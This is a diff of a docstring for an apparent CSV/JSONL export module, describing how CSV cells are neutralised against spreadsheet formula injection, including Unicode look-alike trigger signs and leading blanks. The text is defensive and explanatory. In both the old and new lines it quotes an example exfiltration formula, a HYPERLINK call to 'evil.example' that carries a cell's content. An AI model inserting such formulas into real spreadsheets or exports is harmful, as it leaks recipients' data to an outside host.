@@ -16,13 +16,13 @@ Two formats:
   return is written with a ``'`` in front (:func:`neutralised`): a spreadsheet would
   otherwise run it as a formula (OWASP, "CSV Injection",
   https://owasp.org/www-community/attacks/CSV_Injection). So is a cell whose first
-  character that is not blank (space, tab, CR, LF, U+FEFF, U+00A0, U+3000) is one of
-  those or a look-alike that Unicode compatibility folding turns into one (fullwidth
-  ``＝＋－＠``, small ``﹦﹢﹣﹫``, superscript and subscript ``⁼⁺₌₊``, and U+FB29):
-  spreadsheets strip leading blanks and a byte-order mark, and some read such signs as
-  the ASCII ones. Content, errors and user ids
-  come from senders and providers, not from the officer, so any of them could be
-  ``=HYPERLINK("https://evil.example/?"&A1)``.
+  character that is not blank (:data:`LEADING_BLANKS`: any Unicode white space, and
+  U+FEFF) is one of those or a look-alike that Unicode compatibility folding turns into
+  text beginning with one (:data:`LOOKALIKE_TRIGGERS`: fullwidth ``＝＋－＠``, small
+  ``﹦﹢﹣﹫``, superscript and subscript ``⁼⁺₌₊``, ``⩵⩶``, U+FB29): spreadsheets strip
+  leading blanks and a byte-order mark, and some read such signs as the ASCII ones.
+  Content, errors and user ids come from senders and providers, not from the officer,
+  so any of them could be ``=HYPERLINK("https://evil.example/?"&A1)``.
 - **JSONL**: one JSON object per line, LF-terminated, the shape of one item of the API's
   list (``null`` kept). U+0085, U+2028 and U+2029 are written as escapes, so a reader
   that splits lines on every Unicode line break still sees one record per line.
